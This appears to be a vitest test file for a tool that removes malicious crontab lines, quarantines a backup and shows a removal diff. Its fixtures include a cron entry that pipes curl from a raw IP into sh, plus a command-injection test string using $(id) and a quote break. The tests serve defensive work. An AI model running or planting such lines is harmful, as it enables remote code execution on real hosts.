import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync, readFileSync, statSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { removeLinesScript } from '../../../src/planning/line-edit.js';
import { removalDiff } from '../../../src/core/diff.js';
import { parseQuarantineOutput } from '../../../src/quarantine/manifest.js';
import { phaseCommand } from '../../../src/engine/run-step.js';

/** Both phases, as the engine runs a step that records its undo. */
function journaled(script: string, seq: number): { status: number | null; stdout: string; records: string } {
  const rec = spawnSync('/bin/sh', ['-c', phaseCommand(script, 'record', seq)], { encoding: 'utf8' });
  if (rec.status !== 0) return { status: rec.status, stdout: rec.stdout, records: rec.stdout };
  const r = spawnSync('/bin/sh', ['-c', phaseCommand(script, 'apply', seq)], { encoding: 'utf8' });
  return { status: r.status, stdout: r.stdout, records: rec.stdout };
}

// Cron line removal on a real shell: malicious lines go, legitimate lines stay, even when
// the file changed after the sweep; the original is kept in quarantine.

const bad = '*/5 19-23,0-7 * * * curl -fsSL http://1.2.3.4/api/report?pm=0 | sh';
const legit = '0 3 * * * /usr/local/bin/backup.sh';

describe('removeLinesScript', () => {
  it('removes only the malicious lines, by content, keeping mode and a backup', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'ms-cron-'));
    const f = path.join(dir, 'root');
    const q = path.join(dir, 'q');
    writeFileSync(f, `# m h dom mon dow command\n${legit}\n${bad}\n`);
    chmodSync(f, 0o600);
    const script = removeLinesScript(f, [bad], q);
    // the file changed after the sweep: a new legit line above, the bad line moved
    writeFileSync(f, `MAILTO=ops\n# m h dom mon dow command\n${legit}\n${bad}\n${legit} --twice\n`);
    const r = journaled(script, 1);
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('MS-CHANGED');
    expect(readFileSync(f, 'utf8')).toBe(`MAILTO=ops\n# m h dom mon dow command\n${legit}\n${legit} --twice\n`);
    expect(statSync(f).mode & 0o777).toBe(0o600);
    const recs = parseQuarantineOutput(r.records, q);
    expect(recs).toHaveLength(1);
    expect(recs[0]!.kind).toBe('backup');
    expect(readFileSync(recs[0]!.quarantinePath, 'utf8')).toContain(bad);
    // idempotent: the second run changes nothing
    const again = journaled(script, 2);
    expect(again.status).toBe(0);
    expect(again.stdout).toContain('MS-NOTHING');
  });

  it('handles lines with quotes, $() and a leading dash as plain text', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'ms-cron-'));
    const f = path.join(dir, 'x');
    const hostile = `-e * * * * * echo "$(id)" '; touch ${dir}/pwned`;
    writeFileSync(f, `${hostile}\nkeep\n`);
    const r = journaled(removeLinesScript(f, [hostile], path.join(dir, 'q')), 1);
    expect(r.status).toBe(0);
    expect(readFileSync(f, 'utf8')).toBe('keep\n');
  });
});

describe('removalDiff', () => {
  it('shows the removed line with context', () => {
    const d = removalDiff('/var/spool/cron/crontabs/root', `a\n${legit}\n${bad}\nz\n`, new Set([bad]));
    expect(d).toContain(`-${bad}`);
    expect(d).toContain(` ${legit}`);
    expect(d.startsWith('--- /var/spool/cron/crontabs/root\n+++ ')).toBe(true);
    expect(d).toContain('@@ -1,4 +1,3 @@');
  });
  it('is empty when nothing would be removed', () => {
    expect(removalDiff('/x', 'a\nb\n', new Set(['c']))).toBe('');
  });
});
